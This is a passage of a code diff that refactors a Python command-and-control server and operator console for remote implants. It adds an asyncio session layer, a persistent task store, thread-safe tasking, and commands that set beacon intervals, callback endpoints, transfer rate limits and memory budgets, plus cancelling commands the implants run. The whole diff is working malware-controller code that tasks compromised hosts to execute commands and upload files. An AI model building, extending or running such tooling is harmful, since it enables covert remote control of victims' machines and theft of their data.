+        store: TaskStore | None = None,
+        follow_up: float = 0.0,
+        verify: bool | None = None,
+    ):
+        """linger is how long a session with nothing queued waits for new tasks before it sends DISCONNECT. follow_up
+        is the delay in seconds the DISCONNECT of a session that ran tasks asks the implant to call back after, 0 leaves
+        it on its interval. Without a store, state only lives in memory. verify checksums DOWNLOADs as they arrive, see
+        TaskResult.verified. By default only with ember_accel, True falls back to py_crc32c() without it."""
+        self.ip = ip
+        self.port = port
+        self.linger = linger
+        self.follow_up = follow_up
+        self.max_batch = max_batch
+        self.store = store
+        self.crc32c: Callable | None = None
+        if (verify is not False) and (native_crc32c is not None):
+            self.crc32c = native_crc32c
+        elif verify:
+            self.crc32c = py_crc32c
+        self.implants: dict[uuid.UUID, ImplantInfo] = {}
+        self.sessions: set[Session] = set()
+        self.checkin_hooks: list[Callable[[ImplantInfo], None]] = []
+        self.sessions_closed = 0
+        self.bytes_in = 0
+        self.bytes_out = 0
+        self.snapshot: Mapping[uuid.UUID, ImplantSnapshot] = types.MappingProxyType({})
+
+        self.loop: asyncio.AbstractEventLoop | None = None
+        self.started = threading.Event()
+        self._server: asyncio.Server | None = None
+        self._session_tasks: set[asyncio.Task] = set()
+        self._changed: dict[uuid.UUID, ImplantInfo] = {}
+        self._store_future: concurrent.futures.Future | None = None  # Last one watched, see _watch_store()
 
     async def start(self):
-        server = await asyncio.start_server(self.handle_client, self.ip, self.port)
+        self.loop = asyncio.get_running_loop()
+        if self.store is not None:
+            self._recover(*await self.loop.run_in_executor(None, self.store.open))
+        self.started.set()
+        self._server = await self.loop.create_server(lambda: SessionProtocol(self), self.ip, self.port, backlog=1024)
+        for listener in self._server.sockets:
+            with contextlib.suppress(OSError):  # Fast Open check-ins, when net.ipv4.tcp_fastopen allows a server
+                listener.setsockopt(socket.IPPROTO_TCP, socket.TCP_FASTOPEN, FASTOPEN_QUEUE_LEN)
 
-        async with server:
-            await server.serve_forever()
+    async def serve_forever(self):
+        if self._server is None:
+            await self.start()
+        async with self._server:
+            await self._server.serve_forever()
 
-    def configure_implant(self, id, interval):
-        task = {"id":uuid.uuid4(), "command": OpCodes.SETTINGS.value, "params":{"interval":interval},}
+    async def close(self):
+        self._server.close()
+        await self._server.wait_closed()
+        if self.store is not None:
+            await self.loop.run_in_executor(None, self.store.close)
 
-        if id in self.implants:
-            self.implants[id].pending_tasks.append(task)
-        
+    def _recover(self, implants: list, tasks: list[StoredTask]):
+        for stored in implants:
+            implant = self.implants.setdefault(stored.guid, ImplantInfo(stored.guid))
+            implant.num_checkins = stored.num_checkins
+            implant.checkins.append(stored.last_seen)
+            self.implant_changed(implant)
+        for stored in tasks:
+            self._queue(self.implants.setdefault(stored.guid, ImplantInfo(stored.guid)), Task.from_stored(stored))
 
-    def get_checkins(self):
-        checkins = {guid: self.implants[guid].checkins for guid in self.implants}
-        return checkins
-    
-    def get_implants(self):
-        return list(self.implants.keys())
+    def session_opened(self, session: Session):
+        self.sessions.add(session)
+        task = self.loop.create_task(session.run())
+        self._session_tasks.add(task)
+        task.add_done_callback(self._session_tasks.discard)
 
-class ImplantCLI(cmd.Cmd):
+    def session_closed(self, session: Session):
+        self.sessions.discard(session)
+        self.sessions_closed += 1
+
+    def checkin(self, guid: uuid.UUID) -> ImplantInfo:
+        implant = self.implants.setdefault(guid, ImplantInfo(guid))
+        now = time.time()
+        implant.checkins.append(now)
+        implant.num_checkins += 1
+        if self.store is not None:
+            self._watch_store(self.store.record_checkin(guid, now))
+        for hook in self.checkin_hooks:
+            hook(implant)
+        self.implant_changed(implant)
+        return implant
+
+    def implant_changed(self, implant: ImplantInfo):
+        """Schedule a snapshot update. Changes are coalesced into one swap per loop iteration."""
+        if not self._changed:
+            self.loop.call_soon(self._publish_snapshot)
+        self._changed[implant.guid] = implant
+
+    def _publish_snapshot(self):
+        snapshot = dict(self.snapshot)
+        for guid, implant in self._changed.items():
+            snapshot[guid] = implant.snapshot()
+        self._changed.clear()
+        # A single reference assignment, readers see either the old or the new mapping
+        self.snapshot = types.MappingProxyType(snapshot)
+
+    def submit(self, guid: uuid.UUID, task: Task) -> asyncio.Future:
+        """Queue a task for the implant's current or next session. The future resolves to its TaskResult."""
+        if (task.flags & FileFlags.ARCHIVE) and (OpCodes.DOWNLOAD != task.op_code):
+            raise ValueError("only DOWNLOAD supports FileFlags.ARCHIVE")
+        implant = self.implants.setdefault(guid, ImplantInfo(guid))
+        # DISCONNECT is generated per session and never worth replaying
+        if (self.store is not None) and (OpCodes.DISCONNECT != task.op_code):
+            self._watch_store(self.store.add_task(guid, task))
+        return self._queue(implant, task)
 
-    def __init__(self, id: str, server: C2Server):
+    def cancel(self, guid: uuid.UUID) -> asyncio.Future | None:
+        """CANCEL the EXEC an implant is running, see Session.cancel(). None when no session of it is running one."""
+        for session in self.sessions:
+            if (session.implant is not None) and (guid == session.implant.guid):
+                return session.cancel()
+        return None
+
+    def _queue(self, implant: ImplantInfo, task: Task) -> asyncio.Future:
+        task.result = self.loop.create_future()
+        implant.pending_tasks.append(task)
+        implant.task_ready.set()
+        self.implant_changed(implant)
+        return task.result
+
+    def task_finished(self, implant: ImplantInfo, task: Task, result: TaskResult):
+        implant.finished_tasks += 1
+        if (self.store is not None) and (task.op_code not in SESSION_OPS):
+            self._watch_store(self.store.add_result(implant.guid, task.id, result))
+        task.result.set_result(result)
+
+    def _watch_store(self, future: concurrent.futures.Future):
+        """Log the store write behind future if it fails. Writes sharing a transaction share its future, which is
+        watched once."""
+        if future is not self._store_future:
+            self._store_future = future
+            future.add_done_callback(_log_store_failure)
+
+    async def _submit_and_wait(self, guid: uuid.UUID, task: Task) -> TaskResult:
+        return await self.submit(guid, task)
+
+    def submit_threadsafe(self, guid: uuid.UUID, task: Task) -> concurrent.futures.Future:
+        """submit() from any other thread. The returned future resolves to the TaskResult."""
+        self.started.wait()
+        return asyncio.run_coroutine_threadsafe(self._submit_and_wait(guid, task), self.loop)
+
+    def call_threadsafe(self, func: Callable, *args):
+        """Run func(*args) on the loop thread without waiting for it."""
+        self.started.wait()
+        self.loop.call_soon_threadsafe(func, *args)
+
+    def configure_implant(self, guid: uuid.UUID, interval: int) -> asyncio.Future:
+        return self.submit(guid, Task(OpCodes.SETTINGS, struct.pack(">I", interval), flags=SettingsFlags.INTERVAL))
+
+    def configure_implant_threadsafe(self, guid: uuid.UUID, interval: int) -> concurrent.futures.Future:
+        return self.submit_threadsafe(
+            guid, Task(OpCodes.SETTINGS, struct.pack(">I", interval), flags=SettingsFlags.INTERVAL)
+        )
+
+    def get_checkins(self) -> dict[uuid.UUID, tuple[float, ...]]:
+        """Safe from any thread, reads the current snapshot."""
+        return {guid: implant.checkins for guid, implant in self.snapshot.items()}
+
+    def get_implants(self) -> list[uuid.UUID]:
+        """Safe from any thread, reads the current snapshot."""
+        return list(self.snapshot.keys())
+
+
+class ImplantCLI(cmd.Cmd):
+    def __init__(self, guid: uuid.UUID, server: C2Server):
         super().__init__()
-    
-        self.id = id
+        self.guid = guid
         self.server = server
-        self.prompt = f"{id} >>>"
+        self.prompt = f"{guid} >>> "
 
-    def do_configure(self, args):
-        self.server.configure_implant(self.id, args[0])
+    def do_configure(self, args: str):
+        """configure <interval>: set the beacon interval in seconds"""
+        self.server.configure_implant_threadsafe(self.guid, int(args))
 
+    def do_rate_limit(self, args: str):
+        """rate_limit <bytes/s> [burst] [task]: shape the implant's transfers, all together or with task each one on
+        its own. 0 bytes/s is unlimited"""
+        rate, *rest = args.split()
+        flag = SettingsFlags.TASK_RATE_LIMIT if "task" in rest else SettingsFlags.RATE_LIMIT
+        burst = int(rest[0]) if rest and rest[0] != "task" else 0
+        task = Task(OpCodes.SETTINGS, struct.pack(">QQ", int(rate), burst), flags=flag)
+        self.server.submit_threadsafe(self.guid, task)
 
+    def do_poll_bounds(self, args: str):
+        """poll_bounds <min_ms> <max_ms>: bounds of the early callbacks the C2 asks for after a session that ran tasks.
+        A max of 0 keeps the implant on its interval"""
+        min_ms, max_ms = (int(arg) for arg in args.split())
+        task = Task(OpCodes.SETTINGS, struct.pack(">II", min_ms, max_ms), flags=SettingsFlags.POLL_BOUNDS)
+        self.server.submit_threadsafe(self.guid, task)
 
+    def do_mem_budget(self, args: str):
+        """mem_budget <bytes>: memory the implant's payloads, job output and transfers may take together, 0 for no
+        limit. Tasks that do not fit are answered with NO_MEMORY"""
+        task = Task(OpCodes.SETTINGS, struct.pack(">Q", int(args)), flags=SettingsFlags.MEM_BUDGET)
+        self.server.submit_threadsafe(self.guid, task)
 
-class C2CLI(cmd.Cmd):
+    def do_callbacks(self, args: str):
+        """callbacks <host:port> [<host:port> ...]: endpoints the implant beacons to, IPv6 hosts in brackets. The
+        implant races them and learns which answers fastest"""
+        endpoints = []
+        for endpoint in args.split():
+            host, _, port = endpoint.rpartition(":")
+            endpoints.append((host.strip("[]"), int(port)))
+        task = Task(OpCodes.SETTINGS, encode_callbacks(endpoints), flags=SettingsFlags.CALLBACK)
+        self.server.submit_threadsafe(self.guid, task)
 
-    def __init__(self, ip, port):
-        super().__init__()
+    def do_cancel(self, _):
+        """cancel: kill the command the implant is running, if it is the last task of its batch"""
+        self.server.call_threadsafe(self.server.cancel, self.guid)
 
-        self.prompt = "c2>>>"
+    def do_back(self, _) -> bool:
+        """back: return to the main prompt"""
+        return True
 
-        cli_thread = threading.Thread(target=self.__start_cli_thread)
-        cli_thread.start()
 
-        self.server = C2Server(ip, port)
-        asyncio.run(self.server.start())
+class C2CLI(cmd.Cmd):
+    def __init__(self, ip: str, port: int, store_path: str, follow_up: float):
+        super().__init__()
+        self.prompt = "c2>>> "
+        self.server = C2Server(ip, port, store=TaskStore(store_path), follow_up=follow_up)
 
-    def __start_cli_thread(self):
-        self.cmdloop()
+        cli_thread = threading.Thread(target=self.cmdloop, daemon=True)
+        cli_thread.start()
+        asyncio.run(self.server.serve_forever())
 
-    def do_configure_implant(self, args):
-        self.server.configure_implant(args)
+    def do_configure_implant(self, args: str):
+        """configure_implant <guid> <interval>: set the beacon interval of an implant in seconds"""
+        guid, interval = args.split()
+        self.server.configure_implant_threadsafe(uuid.UUID(guid), int(interval))
 
     def do_list_checkins(self, _):
+        """list_checkins: show the most recent check-ins of every implant"""
         checkins = self.server.get_checkins()
-        for iid in checkins:
-            print(f"Implant: {iid}")
-            for time in checkins[iid]:
-                print(f"\t {time}")
+        for guid, times in checkins.items():
+            print(f"Implant: {guid}")
+            for checkin in times:
+                print(f"\t {time.asctime(time.localtime(checkin))}")
 
     def do_list_implants(self, _):
-        print(self.server.get_implants())
+        """list_implants: show every implant seen and its task counts"""
+        for implant in self.server.snapshot.values():
+            print(f"{implant.guid} checkins={implant.num_checkins} pending={implant.pending_tasks} "
+                  f"finished={implant.finished_tasks}")
+
+    def do_select(self, args: str):
+        """select <guid>: task a single implant"""
+        ImplantCLI(uuid.UUID(args), self.server).cmdloop()
+
 
-    def do_select_
+def main():
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--ip", default="127.0.0.1")
+    parser.add_argument("--port", type=int, default=31337)
+    parser.add_argument("--store", default="c2-data", help="directory holding the task/result store")
+    parser.add_argument(
+        "--follow-up", type=float, default=0.5, help="seconds until the next callback after a session that ran tasks"
+    )
+    args = parser.parse_args()
+    C2CLI(args.ip, args.port, args.store, args.follow_up)
 
 
 if __name__ == "__main__":
     try:
-        c2 = C2CLI("127.0.0.1", 31337)
+        main()
     except KeyboardInterrupt as exc:
         raise SystemExit from exc